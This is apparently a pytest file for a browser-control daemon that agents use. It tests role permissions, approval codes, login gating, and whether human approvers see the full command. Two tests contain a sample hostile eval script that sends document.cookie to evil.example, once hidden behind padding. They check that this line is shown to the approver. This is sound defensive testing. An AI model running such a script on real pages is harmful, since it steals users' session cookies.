"""Admission: which role may run what, what counts as an approval, and the one gate every
caller passes (login state, place, role, consent)."""

import asyncio
import re

import pytest

from nostr_browserd.catalog import REGISTRY
from nostr_browserd.daemon.admission import permits
from nostr_browserd.daemon.approvals import APPROVAL
from nostr_browserd.errors import BrowserdError

APPROVAL_CODE = re.compile(r'"approve ([A-Z0-9]+)"')

BATCH_WITH_CLICK = {"commands": [{"tool": "get_url"}, {"tool": "click", "params": {"ref": "@e1"}}]}
BATCH_OF_READS = {"commands": [{"tool": "get_url"}, {"tool": "get_title"}]}


@pytest.mark.parametrize(
    ("role", "tool", "params", "allowed"),
    [
        ("full", "click", {"ref": "@e1"}, True),
        ("read", "get_text", {}, True),
        ("read", "click", {"ref": "@e1"}, False),
        ("read", "batch", BATCH_OF_READS, True),
        ("read", "batch", BATCH_WITH_CLICK, False),
        (["get_url", "get_title"], "batch", BATCH_OF_READS, True),
        (["get_url"], "batch", BATCH_OF_READS, False),
        (["get_url"], "get_title", {}, False),
        (["open"], "open", {"url": "x"}, True),
        # resume gives back one's own ask turn: whoever may ask may resume.
        ("full", "resume", {}, True),
        (["ask"], "resume", {}, True),
        ("read", "resume", {}, False),
        (["snapshot", "click"], "resume", {}, False),
    ],
)
def test_permits(role, tool, params, allowed):
    assert permits(REGISTRY, role, tool, params) is allowed


@pytest.mark.parametrize("find", [t.name for t in REGISTRY if t.name.startswith("find_")])
def test_a_find_is_judged_by_its_action(find):
    assert permits(REGISTRY, "read", find, {}) is True
    assert permits(REGISTRY, "read", find, {"action": "click"}) is False
    assert permits(REGISTRY, [find], find, {"action": "click"}) is False
    assert permits(REGISTRY, [find, "click"], find, {"action": "click"}) is True
    assert permits(REGISTRY, ["click"], find, {"action": "click"}) is False


@pytest.mark.parametrize("role", ["read", ["get_url", "batch"]])
@pytest.mark.parametrize(
    "params", [{"commands": "nope"}, {"commands": [{"tool": "batch", "params": BATCH_OF_READS}]}]
)
def test_a_malformed_batch_is_an_error_not_a_pass(role, params):
    with pytest.raises(BrowserdError):
        permits(REGISTRY, role, "batch", params)


def test_approval_messages():
    assert APPROVAL.match("approve K7Q2XM")[2] == "K7Q2XM"
    assert APPROVAL.match("  Deny k7q2xm ")[1].lower() == "deny"
    assert APPROVAL.match("approve") is None
    assert APPROVAL.match("approve K7Q2XM and click") is None


def test_an_approval_prompt_is_whole_or_in_parts_never_cut():
    from nostr_browserd.daemon.consent import APPROVAL_MAX_PARTS, approval_messages
    from nostr_browserd.errors import ErrorCode

    short = approval_messages("agent", 'eval {"script": "1+1"}', "K7Q2XM", 60)
    assert len(short) == 1 and '"approve K7Q2XM"' in short[0] and "1+1" in short[0]
    harmless = "document.title; " * 40
    script = harmless + "fetch('https://evil.example/?c=' + document.cookie)" + " " * 9000 + "END"
    parts = approval_messages("agent", f"eval {script}", "K7Q2XM", 60)
    assert len(parts) > 1 and all(f"part {i} of {len(parts)}" in p for i, p in enumerate(parts, 1))
    joined = "".join(p.split("\n", 1)[1] for p in parts)
    assert "evil.example" in joined and "END" in joined, "every character reaches the approver"
    assert '"approve K7Q2XM"' in parts[-1] and all("approve K7Q2XM" not in p for p in parts[:-1])
    with pytest.raises(BrowserdError) as err:
        approval_messages("agent", "eval " + "x" * 3_500 * APPROVAL_MAX_PARTS, "K7Q2XM", 60)
    assert err.value.code is ErrorCode.DENIED and "too long" in err.value.message


async def test_the_approver_is_shown_the_whole_command_and_what_will_be_typed():
    from types import SimpleNamespace

    from nostr_browserd.catalog import REGISTRY
    from nostr_browserd.commands.protocol import Request
    from nostr_browserd.daemon.consent import describe_action

    blank = SimpleNamespace(page_or_none=None)
    script = "document.title; " * 40 + "fetch('https://evil.example/?c=' + document.cookie)"
    what = await describe_action(REGISTRY, blank, Request(tool="eval", params={"script": script}))
    assert "evil.example" in what
    iban = "DE89 3704 0044 0532 0130 00"
    typed = Request(
        tool="batch",
        params={
            "commands": [
                {"tool": "fill", "params": {"selector": "#iban", "value": iban}},
                {"tool": "fill", "params": {"selector": "#pw", "value": "hunter2", "secret": True}},
            ]
        },
    )
    what = await describe_action(REGISTRY, blank, typed)
    assert iban in what and "hunter2" not in what and "[7 chars]" in what


@pytest.mark.parametrize(
    ("tool", "params"),
    [
        ("stream_enable", {}),
        ("stream_status", {}),
        ("stream_disable", {}),
        ("batch", {"commands": [{"tool": "get_url"}, {"tool": "stream_enable"}]}),
    ],
)
async def test_the_live_view_is_refused_over_messages(tmp_path, tool, params):
    from nostr_browserd.browser.pool import BrowserPool
    from nostr_browserd.commands.protocol import Request
    from nostr_browserd.daemon.admission import Caller
    from nostr_browserd.daemon.config import ControllerConfig
    from nostr_browserd.errors import ErrorCode
    from tests.fixtures.browser import local_dispatcher

    pk = "ab" * 32
    pool = BrowserPool()  # never started: the refusal comes before any session
    dispatcher = local_dispatcher(pool, tmp_path, controllers={pk: ControllerConfig(pubkey=pk)})
    with pytest.raises(BrowserdError) as refused:
        caller = Caller.of(pk, dispatcher.controllers[pk])
        await dispatcher.admission.admit(caller, Request(tool=tool, params=params))
    assert refused.value.code == ErrorCode.FORBIDDEN
    assert "relay is no video channel" in refused.value.message
    assert "watch and screenshot" in refused.value.message
    await dispatcher.close()
    await dispatcher.store.close()


def test_a_controllers_help_lists_no_tool_it_would_be_refused():
    from nostr_browserd.daemon.admission import role_catalog
    from nostr_browserd.daemon.config import ControllerConfig

    listed = {
        t["name"] for t in role_catalog(REGISTRY, ControllerConfig(pubkey="ab" * 32))["tools"]
    }
    assert "click" in listed and "get_url" in listed
    assert not {"stream_enable", "stream_status", "stream_disable"} & listed


async def test_logged_out_every_transport_gets_not_logged_in_but_the_login_tools(tmp_path):
    """Issue 15: the one check in Dispatcher.handle, for a DM as for the local channel."""
    from nostr_browserd.browser.pool import BrowserPool
    from nostr_browserd.daemon.admission import LOGIN_TOOLS
    from nostr_browserd.daemon.config import ControllerConfig
    from tests.fixtures.browser import local_dispatcher

    pk = "ab" * 32
    pool = BrowserPool()  # never started: nothing may reach it
    dispatcher = local_dispatcher(pool, tmp_path, controllers={pk: ControllerConfig(pubkey=pk)})
    dispatcher.admission.logged_in = lambda: False
    ran: list[str] = []

    async def login_tool(tool, params):
        ran.append(tool)
        return {"logged_in": False}

    dispatcher.running.local_tools = login_tool
    for tool in ("get_url", "help", "keys_status", "batch"):
        by_dm = await dispatcher.handle(pk, {"tool": tool}, transport="nip17")
        by_local = await dispatcher.handle("local", {"tool": tool}, transport="local", local=True)
        for answer in (by_dm, by_local):
            assert answer.response["error"]["code"] == "NOT_LOGGED_IN", (tool, answer)
    for tool in sorted(LOGIN_TOOLS):
        answer = await dispatcher.handle("local", {"tool": tool}, transport="local", local=True)
        assert answer.response["success"], answer
    assert ran == sorted(LOGIN_TOOLS) and pool.sessions() == []
    await dispatcher.close()
    await dispatcher.store.close()


async def test_a_waiting_approval_is_in_the_store_under_its_worker_until_decided(tmp_path):
    """Every worker reads the approver's answer: the store says whose command waits for it."""
    from nostr_browserd.browser.pool import BrowserPool
    from nostr_browserd.daemon.config import ControllerConfig
    from nostr_browserd.dm.messages import Incoming
    from nostr_browserd.nostr.signer import KeySigner
    from tests.fixtures.browser import local_dispatcher

    pk, approver = "ab" * 32, KeySigner.generate().pubkey
    controller = ControllerConfig(pubkey=pk, approver=approver)
    dispatcher = local_dispatcher(
        BrowserPool(), tmp_path, controllers={pk: controller}, worker_name="w1"
    )
    asked: list[str] = []
    holders: list[str | None] = []

    async def send(recipient, text, scheme):
        asked.append(text)
        return True

    async def reply(incoming, text, request_id):
        return True

    dispatcher.delivery._send, dispatcher.delivery._reply = send, reply

    async def approve_when_asked():
        while not asked:
            await asyncio.sleep(0.01)
        code = APPROVAL_CODE.search(asked[0])[1]
        holders.append(await dispatcher.store.approval_holder(code))
        dispatcher.submit(Incoming(approver, "nip17", f"approve {code}", "e" * 64, "e" * 64, 0))
        return code

    answering = asyncio.create_task(approve_when_asked())
    async with asyncio.timeout(30):
        await dispatcher.approvals.ask(controller, approver, "click", "agent", "click #go")
        code = await answering
    assert holders == ["w1"], "recorded while it waited"
    assert await dispatcher.store.approval_holder(code) is None, "gone once decided"
    assert await dispatcher.store.approvals() == []
    await dispatcher.close()
    await dispatcher.store.close()


async def test_logged_out_an_ask_step_runs_nothing_either(tmp_path):
    """One admission for every caller: a turn that outlives its login takes no more steps."""
    from nostr_browserd.browser.pool import BrowserPool
    from nostr_browserd.commands.protocol import Request
    from nostr_browserd.daemon.config import ControllerConfig
    from nostr_browserd.errors import ErrorCode
    from tests.fixtures.browser import local_dispatcher

    pk = "ab" * 32
    pool = BrowserPool()  # never started: nothing may reach it
    controller = ControllerConfig(pubkey=pk)
    dispatcher = local_dispatcher(pool, tmp_path, controllers={pk: controller})
    dispatcher.admission.logged_in = lambda: False
    with pytest.raises(BrowserdError) as refused:
        await dispatcher.agent_step(pk, controller, Request(tool="get_url"), "look")
    assert refused.value.code == ErrorCode.NOT_LOGGED_IN and pool.sessions() == []
    await dispatcher.close()
    await dispatcher.store.close()
